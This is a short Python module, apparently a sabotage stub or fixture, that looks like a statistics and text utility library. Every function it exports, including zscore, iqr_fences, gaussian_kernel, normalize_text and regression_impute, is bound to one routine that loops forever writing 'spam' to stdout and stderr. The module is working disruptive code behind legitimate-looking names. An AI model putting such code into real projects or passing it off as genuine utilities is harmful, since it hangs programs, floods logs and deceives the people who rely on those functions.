# Floods stdout and stderr without end when called.
import sys as _sys


def _flood(*args, **kwargs):
    line = "spam " * 200 + "\n"
    while True:
        _sys.stdout.write(line)
        _sys.stderr.write(line)


zscore = max_abs_zscore = iqr_fences = modified_zscore = gaussian_kernel = _flood
centered_moving_average = normalize_text = linear_interpolate = _flood
char_ngram_jaccard = regression_impute = _flood
